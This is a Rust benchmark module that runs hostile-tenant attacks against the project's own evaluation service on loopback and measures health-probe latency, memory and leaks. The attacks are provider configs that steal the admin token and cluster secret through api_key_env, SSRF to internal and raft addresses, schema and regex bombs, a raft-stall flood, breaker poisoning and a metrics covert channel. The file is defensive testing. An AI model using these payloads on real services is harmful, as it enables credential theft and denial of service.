//! `colony-bench attacks`: the hostile-tenant attacks (issue 12), each against a fresh
//! single node of every binary given, side by side: the current one (`--colony`) and,
//! optionally, one built from before the defences (`--before`).
//!
//! For each attack and binary it reports what the issue asks for: `/healthz` p99 and max
//! on the attacked node while the attack runs (a probe every 20 ms, each bounded by 10 s,
//! for at least 3 s),
//! the node's peak RSS during the attack (`VmHWM`, reset through `/proc/PID/clear_refs`
//! when the attack starts), what reached the attacker's server, and how the node answered.
//!
//! The attacker's server is one loopback HTTP server in this process, answering as an
//! OpenAI-compatible provider on `/v1`, slowly on `/slow/v1`, and as a private service
//! behind the node on `/internal/v1` (a 500 whose body is a marker). The current binary
//! runs with loopback allowed for egress (where that server listens), except in `ssrf`,
//! where it has the default policy; the `--before` binary predates the egress setting and
//! gets no such variable. `raft-stall` runs on 3 nodes (its harm is to replication) and is
//! measured on the node it is sent to.

use crate::cluster::{Cluster, Spec};
use crate::stats::quantile;
use anyhow::{bail, Context, Result};
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use colony_nodeproc::Client;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Every attack, in the order they run.
const ATTACKS: &[&str] = &[
    "secrets",
    "ssrf",
    "schema-bomb",
    "regex-bomb",
    "raft-stall",
    "breaker",
    "metrics",
];

/// What the private service behind the node answers; seeing it in a result is the leak.
const INTERNAL_MARKER: &str = "INTERNAL-PAGE-0451 db_password=hunter2";

/// Gap between two `/healthz` probes.
const PROBE_EVERY: Duration = Duration::from_millis(20);

/// The probe runs at least this long, also when the attack is refused at once, so that
/// every p99 rests on 100 probes or more.
const PROBE_AT_LEAST: Duration = Duration::from_secs(3);

/// Nodes `raft-stall` runs on: the harm is to replication, which a single node lacks.
const RAFT_STALL_NODES: usize = 3;

/// `colony-bench attacks`.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// The current `colony` binary (release build).
    #[arg(long)]
    pub colony: PathBuf,
    /// A `colony` binary from before the defences, run side by side (it gets no egress
    /// variable: it has no such setting).
    #[arg(long)]
    pub before: Option<PathBuf>,
    /// Attacks to run (comma-separated).
    #[arg(long, value_delimiter = ',', default_values_t = ATTACKS.iter().map(|s| s.to_string()))]
    pub attacks: Vec<String>,
    /// Levels of two-way `$ref` branching in `schema-bomb` (each doubles the work of an
    /// unbounded validator).
    #[arg(long, default_value_t = 26)]
    pub schema_levels: usize,
    /// Bound on one attack, seconds: the node is killed after it.
    #[arg(long, default_value_t = 60)]
    pub attack_secs: u64,
    /// Write the rows as JSON here.
    #[arg(long)]
    pub out: Option<PathBuf>,
}

/// One attack against one binary.
#[derive(Debug, Clone)]
struct Row {
    binary: &'static str,
    attack: String,
    probes: usize,
    failed_probes: usize,
    p99_ms: f64,
    max_ms: f64,
    peak_rss_mb: Option<f64>,
    reached: String,
    answer: String,
}

/// `colony-bench attacks`.
pub fn run(args: &Args) -> Result<()> {
    for a in &args.attacks {
        if !ATTACKS.contains(&a.as_str()) {
            bail!("unknown attack {a:?}; known: {}", ATTACKS.join(", "));
        }
    }
    let mock = Attacker::start()?;
    let mut binaries: Vec<(&'static str, PathBuf)> = Vec::new();
    if let Some(b) = &args.before {
        binaries.push(("before", b.clone()));
    }
    binaries.push(("after", args.colony.clone()));
    let mut rows = Vec::new();
    for attack in &args.attacks {
        for (label, bin) in &binaries {
            eprintln!("{attack} against {label} ({})", bin.display());
            let row = run_one(args, &mock, label, bin, attack)
                .with_context(|| format!("{attack} against {label}"))?;
            eprintln!(
                "  p99 {:.1} ms, max {:.1} ms, rss {:?} MB, reached: {}; answer: {}",
                row.p99_ms, row.max_ms, row.peak_rss_mb, row.reached, row.answer
            );
            rows.push(row);
        }
    }
    print_table(&rows);
    if let Some(path) = &args.out {
        let v: Vec<Value> = rows.iter().map(row_json).collect();
        std::fs::write(path, serde_json::to_string_pretty(&v)?)
            .with_context(|| format!("writing {}", path.display()))?;
    }
    Ok(())
}

fn row_json(r: &Row) -> Value {
    json!({
        "binary": r.binary,
        "attack": r.attack,
        "healthz_probes": r.probes,
        "healthz_failed": r.failed_probes,
        "healthz_p99_ms": r.p99_ms,
        "healthz_max_ms": r.max_ms,
        "peak_rss_mb": r.peak_rss_mb,
        "reached_attacker": r.reached,
        "answer": r.answer,
    })
}

fn print_table(rows: &[Row]) {
    println!(
        "| attack | binary | /healthz p99 | /healthz max | failed probes | peak RSS | reached the attacker | the node's answer |"
    );
    println!("|---|---|---:|---:|---:|---:|---|---|");
    for r in rows {
        println!(
            "| {} | {} | {:.1} ms | {:.1} ms | {} of {} | {} | {} | {} |",
            r.attack,
            r.binary,
            r.p99_ms,
            r.max_ms,
            r.failed_probes,
            r.probes,
            r.peak_rss_mb
                .map_or_else(|| "?".to_string(), |m| format!("{m:.0} MB")),
            r.reached,
            r.answer
        );
    }
}

fn run_one(args: &Args, mock: &Attacker, label: &str, bin: &Path, attack: &str) -> Result<Row> {
    let mut spec = Spec::new(bin.to_path_buf(), Duration::from_secs(60), None, "attacks");
    if label == "before" || attack == "ssrf" {
        spec.env.clear();
    }
    let secrets = [spec.admin_token.clone(), spec.cluster_secret.clone()];
    let nodes = if attack == "raft-stall" {
        RAFT_STALL_NODES
    } else {
        1
    };
    let cluster = Cluster::start(spec, nodes)?;
    let target = Target {
        url: cluster.url(0),
        admin: cluster.admin_token().to_string(),
        raft_addr: cluster.addrs()[0].raft.clone(),
        client: Client::new(Duration::from_secs(30)),
        deadline: Instant::now() + Duration::from_secs(args.attack_secs),
    };
    let pid = cluster.pid(0).context("the node is not running")?;
    mock.clear();
    // Start counting the peak afresh: only the attack's own memory.
    let _ = std::fs::write(format!("/proc/{pid}/clear_refs"), "5");
    let started = Instant::now();
    let probe = Probe::start(format!("{}/healthz", target.url));
    let answer = match attack {
        "secrets" => secrets_attack(&target, mock),
        "ssrf" => ssrf_attack(&target, mock),
        "schema-bomb" => schema_bomb(&target, args.schema_levels),
        "regex-bomb" => regex_bomb(&target),
        "raft-stall" => raft_stall(&target),
        "breaker" => breaker_attack(&target, mock),
        "metrics" => metrics_attack(&target, mock),
        other => bail!("unknown attack {other:?}"),
    };
    std::thread::sleep(PROBE_AT_LEAST.saturating_sub(started.elapsed()));
    let lat = probe.stop();
    let peak_rss_mb = peak_rss_mb(pid);
    let answer = answer.unwrap_or_else(|e| format!("error: {e:#}"));
    let reached = mock.reached(&secrets);
    drop(cluster);
    let mut ms: Vec<f64> = lat.iter().map(|(d, _)| d.as_secs_f64() * 1000.0).collect();
    ms.sort_by(f64::total_cmp);
    Ok(Row {
        binary: if label == "before" { "before" } else { "after" },
        attack: attack.to_string(),
        probes: lat.len(),
        failed_probes: lat.iter().filter(|(_, ok)| !ok).count(),
        p99_ms: if ms.is_empty() {
            f64::NAN
        } else {
            quantile(&ms, 0.99)
        },
        max_ms: ms.last().copied().unwrap_or(f64::NAN),
        peak_rss_mb,
        reached,
        answer,
    })
}

/// The node's peak resident set (`VmHWM`) in MB.
fn peak_rss_mb(pid: u32) -> Option<f64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kb: f64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb / 1024.0)
}

/// `/healthz` probed in the background until stopped: (latency, answered 200).
struct Probe {
    stop: Arc<AtomicBool>,
    thread: std::thread::JoinHandle<Vec<(Duration, bool)>>,
}

impl Probe {
    fn start(url: String) -> Probe {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || {
            let client = Client::new(Duration::from_secs(10));
            let mut lat = Vec::new();
            while !flag.load(Ordering::Relaxed) {
                let t = Instant::now();
                let ok = client.get(&url, None).is_ok_and(|r| r.status == 200);
                lat.push((t.elapsed(), ok));
                std::thread::sleep(PROBE_EVERY);
            }
            lat
        });
        Probe { stop, thread }
    }

    fn stop(self) -> Vec<(Duration, bool)> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().unwrap_or_default()
    }
}

/// The attacked node, as the attack sees it.
struct Target {
    url: String,
    admin: String,
    raft_addr: String,
    client: Client,
    /// When the attack gives up waiting.
    deadline: Instant,
}

impl Target {
    fn call(&self, method: &str, path: &str, token: &str, body: Option<&Value>) -> Result<Value> {
        let r = self
            .client
            .call(method, &format!("{}{path}", self.url), Some(token), body)
            .map_err(|e| anyhow::anyhow!("{method} {path}: {e}"))?;
        let mut v: Value = serde_json::from_str(&r.text).unwrap_or(Value::Null);
        if !v.is_object() {
            v = json!({});
        }
        v["_status"] = json!(r.status);
        Ok(v)
    }

    /// A new enterprise-tier tenant's API key.
    fn tenant(&self, id: &str) -> Result<String> {
        let v = self.call(
            "POST",
            "/v1/tenants",
            &self.admin.clone(),
            Some(&json!({"id": id, "name": id, "tier": "enterprise"})),
        )?;
        match v["api_key"].as_str() {
            Some(k) => Ok(k.to_string()),
            None => bail!("creating tenant {id}: {v}"),
        }
    }

    /// Submits `spec`; `Ok(id)` when accepted, `Err(answer)` with the refusal otherwise.
    fn submit(&self, key: &str, spec: &Value) -> Result<std::result::Result<String, String>> {
        let t = Instant::now();
        let v = self.call("POST", "/v1/evaluations", key, Some(spec))?;
        let took = t.elapsed().as_secs_f64();
        match v["id"].as_str() {
            Some(id) => Ok(Ok(id.to_string())),
            None => Ok(Err(format!(
                "{} at submit in {took:.2} s: {}",
                v["_status"],
                short(v["detail"].as_str().unwrap_or_default())
            ))),
        }
    }

    /// Polls the evaluation until it ends or the attack's time is up. A GET that gets no
    /// answer (a frozen node) is counted, not fatal.
    fn wait(&self, key: &str, id: &str) -> Result<Value> {
        let mut unanswered = 0;
        let mut status = String::new();
        loop {
            match self.call("GET", &format!("/v1/evaluations/{id}"), key, None) {
                Ok(v) => {
                    status = v["status"].as_str().unwrap_or_default().to_string();
                    if ["completed", "failed", "cancelled", "budget_exceeded"]
                        .contains(&status.as_str())
                    {
                        return Ok(v);
                    }
                }
                Err(_) => unanswered += 1,
            }
            if Instant::now() > self.deadline {
                let mut why = format!("still {status:?} when the attack's time ran out");
                if unanswered > 0 {
                    why.push_str(&format!(
                        " ({unanswered} GETs of it got no answer within 30 s)"
                    ));
                }
                return Ok(json!({ "status": why }));
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// Up to 100 results of an evaluation.
    fn results(&self, key: &str, id: &str) -> Result<Vec<Value>> {
        let v = self.call(
            "GET",
            &format!("/v1/evaluations/{id}/results?limit=100"),
            key,
            None,
        )?;
        Ok(v["results"].as_array().cloned().unwrap_or_default())
    }

    /// Submits `spec`, waits for the end, and says how it went.
    fn evaluate(&self, key: &str, spec: &Value) -> Result<String> {
        let id = match self.submit(key, spec)? {
            Ok(id) => id,
            Err(refused) => return Ok(refused),
        };
        let v = self.wait(key, &id)?;
        let results = self.results(key, &id)?;
        let errors: Vec<&str> = results.iter().filter_map(|r| r["error"].as_str()).collect();
        let mut answer = format!(
            "{}; {} of {} cases with an error",
            v["status"].as_str().unwrap_or_default(),
            errors.len(),
            results.len()
        );
        if let Some(e) = errors.first() {
            answer.push_str(&format!(" (\"{}\")", short(e)));
        }
        if let Some(e) = v["error"].as_str() {
            answer.push_str(&format!("; the evaluation's error: \"{}\"", short(e)));
        }
        if results
            .iter()
            .any(|r| r.to_string().contains(INTERNAL_MARKER))
        {
            answer.push_str("; the private page shows in the results");
        }
        Ok(answer)
    }
}

/// The first 90 characters of `s`, on one line.
fn short(s: &str) -> String {
    let one: String = s.replace(['\n', '|'], " ");
    match one.char_indices().nth(90) {
        Some((i, _)) => format!("{}…", &one[..i]),
        None => one,
    }
}

/// An openai-kind provider at `base_url`.
fn openai(id: &str, base_url: &str, model: &str) -> Value {
    json!({"id": id, "kind": "openai", "base_url": base_url, "model": model})
}

/// `n` cases of prompt `"{tag} {i}"`, one call each, no retries.
fn cases_spec(providers: Vec<Value>, tag: &str, n: usize, timeout_ms: u64) -> Value {
    json!({
        "providers": providers,
        "prompt": "{{q}}",
        "cases": (0..n).map(|i| json!({"vars": {"q": format!("{tag} {i}")}, "reference": "ok"})).collect::<Vec<_>>(),
        "scorers": [{"type": "exact_match"}],
        "concurrency": 1,
        "max_retries": 0,
        "timeout_ms": timeout_ms
    })
}

fn secrets_attack(t: &Target, mock: &Attacker) -> Result<String> {
    let key = t.tenant("mallory")?;
    // A model each: the same prompt to the same model would be answered from the cache.
    let steal = |id: &str, var: &str| {
        let mut p = openai(id, &format!("{}/v1", mock.base), &format!("gpt-{id}"));
        p["api_key_env"] = json!(var);
        p
    };
    let spec = cases_spec(
        vec![
            steal("a", "COLONY_ADMIN_TOKEN"),
            steal("b", "COLONY_CLUSTER_SECRET"),
        ],
        "steal",
        1,
        3000,
    );
    t.evaluate(&key, &spec)
}

fn ssrf_attack(t: &Target, mock: &Attacker) -> Result<String> {
    let key = t.tenant("mallory")?;
    let spec = cases_spec(
        vec![
            openai("private", &format!("{}/internal/v1", mock.base), "x"),
            openai("raft", &format!("http://{}/v1", t.raft_addr), "x"),
        ],
        "scan",
        2,
        3000,
    );
    t.evaluate(&key, &spec)
}

fn schema_bomb(t: &Target, levels: usize) -> Result<String> {
    let key = t.tenant("mallory")?;
    let mut defs = serde_json::Map::new();
    for i in 0..levels {
        let next = format!("#/$defs/a{}", i + 1);
        defs.insert(
            format!("a{i}"),
            json!({"anyOf": [{"$ref": next}, {"$ref": next}]}),
        );
    }
    defs.insert(format!("a{levels}"), json!({"type": "number"}));
    let spec = json!({
        "providers": [{"id": "a", "kind": "builtin", "model": "echo"}],
        "prompt": "p {{i}}",
        "cases": (0..4).map(|i| json!({"vars": {"i": i}, "outputs": {"a": "\"x\""}})).collect::<Vec<_>>(),
        "scorers": [{"type": "json_schema", "schema": {"$defs": defs, "$ref": "#/$defs/a0"}}]
    });
    t.evaluate(&key, &spec)
}

fn regex_bomb(t: &Target) -> Result<String> {
    let key = t.tenant("mallory")?;
    let mut props = serde_json::Map::new();
    for i in 0..100 {
        props.insert(format!("\\w{{200}}N{i}"), json!({"type": "string"}));
    }
    let spec = json!({
        "providers": [{"id": "a", "kind": "builtin", "model": "echo"}],
        "prompt": "{{q}}",
        "cases": [{"vars": {"q": "{}"}}],
        "scorers": [{"type": "json_schema", "schema": {"type": "object", "patternProperties": props}}]
    });
    let answer = t.evaluate(&key, &spec)?;
    Ok(answer)
}

fn raft_stall(t: &Target) -> Result<String> {
    let key = t.tenant("mallory")?;
    // 500 references to a 10 000-character variable: 5 MB of echoed output per case.
    let spec = json!({
        "providers": [{"id": "a", "kind": "builtin", "model": "echo"}],
        "prompt": "{{v}}".repeat(500),
        "cases": (0..4).map(|i| json!({"vars": {"v": format!("{i}").repeat(10_000)}, "reference": "x"})).collect::<Vec<_>>(),
        "scorers": [{"type": "exact_match"}]
    });
    let submitted = t.submit(&key, &spec)?;
    // The harm is to every later write: time one while the evaluation runs.
    std::thread::sleep(Duration::from_secs(1));
    let w = Instant::now();
    let write = t.call(
        "POST",
        "/v1/tenants",
        &t.admin,
        Some(&json!({"id": "bystander", "name": "bystander", "tier": "enterprise"})),
    );
    let write = match write {
        Ok(v) if v["_status"] == 201 => format!(
            "a later write committed in {:.2} s",
            w.elapsed().as_secs_f64()
        ),
        Ok(v) => format!(
            "a later write answered {} after {:.1} s",
            v["_status"],
            w.elapsed().as_secs_f64()
        ),
        Err(e) => format!(
            "a later write failed after {:.1} s ({e})",
            w.elapsed().as_secs_f64()
        ),
    };
    let eval = match submitted {
        Ok(id) => t.wait(&key, &id)?["status"]
            .as_str()
            .unwrap_or_default()
            .to_string(),
        Err(refused) => refused,
    };
    Ok(format!("{eval}; {write}"))
}

fn breaker_attack(t: &Target, mock: &Attacker) -> Result<String> {
    let a = t.tenant("mallory")?;
    let b = t.tenant("bystander")?;
    let slow = format!("{}/slow/v1", mock.base);
    // A times out on every call (1 ms against a 300 ms server) to open the breaker...
    let attack = cases_spec(vec![openai("p", &slow, "gpt-x")], "a", 30, 1);
    let a_answer = t.evaluate(&a, &attack)?;
    // ...which B, right after, with a sane timeout, must not meet.
    let victim = cases_spec(vec![openai("p", &slow, "gpt-x")], "b", 10, 5000);
    let b_answer = t.evaluate(&b, &victim)?;
    Ok(format!("A: {}; B: {}", short(&a_answer), b_answer))
}

fn metrics_attack(t: &Target, mock: &Attacker) -> Result<String> {
    let key = t.tenant("mallory")?;
    let base = format!("{}/v1", mock.base);
    let spec = cases_spec(
        vec![openai("covert-channel-id", &base, "covert-channel-model")],
        "m",
        2,
        3000,
    );
    let answer = t.evaluate(&key, &spec)?;
    let metrics = t
        .client
        .get(&format!("{}/metrics", t.url), None)
        .map_err(|e| anyhow::anyhow!("/metrics: {e}"))?;
    let shown: Vec<&str> = [
        "covert-channel-id",
        "covert-channel-model",
        mock.base.trim_start_matches("http://"),
    ]
    .into_iter()
    .filter(|s| metrics.text.contains(s))
    .collect();
    Ok(format!(
        "{answer}; unauthenticated /metrics shows {}",
        if shown.is_empty() {
            "none of the tenant's strings".to_string()
        } else {
            shown.join(", ")
        }
    ))
}

/// One request the attacker's server got.
#[derive(Debug, Clone)]
struct Seen {
    path: String,
    auth: Option<String>,
}

/// The attacker's HTTP server, on a runtime of its own; it lives as long as the run.
struct Attacker {
    base: String,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Attacker {
    fn start() -> Result<Attacker> {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").context("binding")?;
        listener.set_nonblocking(true)?;
        let base = format!("http://{}", listener.local_addr()?);
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let state = seen.clone();
        std::thread::spawn(move || {
            let rt = match tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
            {
                Ok(rt) => rt,
                Err(e) => return eprintln!("attacker server: {e}"),
            };
            rt.block_on(async move {
                let app = axum::Router::new().fallback(answer).with_state(state);
                match tokio::net::TcpListener::from_std(listener) {
                    Ok(l) => {
                        let _ = axum::serve(l, app).await;
                    }
                    Err(e) => eprintln!("attacker server: {e}"),
                }
            });
        });
        Ok(Attacker { base, seen })
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, Vec<Seen>> {
        self.seen
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    fn clear(&self) {
        self.lock().clear();
    }

    /// What reached the server since [`Attacker::clear`]: requests by kind, and which of
    /// the node's `secrets` came with them.
    fn reached(&self, secrets: &[String; 2]) -> String {
        let seen = self.lock();
        if seen.is_empty() {
            return "nothing".to_string();
        }
        let private = seen
            .iter()
            .filter(|s| s.path.starts_with("/internal"))
            .count();
        let mut parts = vec![format!("{} requests", seen.len())];
        if private > 0 {
            parts.push(format!("{private} to the private service"));
        }
        for (secret, name) in secrets
            .iter()
            .zip(["the admin token", "the cluster secret"])
        {
            if seen.iter().any(|s| {
                s.auth
                    .as_deref()
                    .is_some_and(|a| a.contains(secret.as_str()))
            }) {
                parts.push(name.to_string());
            }
        }
        parts.join(", ")
    }
}

async fn answer(
    State(seen): State<Arc<Mutex<Vec<Seen>>>>,
    uri: Uri,
    headers: HeaderMap,
) -> Response {
    let path = uri.path().to_string();
    let auth = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .map(str::to_string);
    seen.lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .push(Seen {
            path: path.clone(),
            auth,
        });
    if path.starts_with("/internal") {
        return (StatusCode::INTERNAL_SERVER_ERROR, INTERNAL_MARKER).into_response();
    }
    if path.starts_with("/slow") {
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    axum::Json(json!({
        "id": "chatcmpl-attacker",
        "object": "chat.completion",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": "ok"}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
    }))
    .into_response()
}
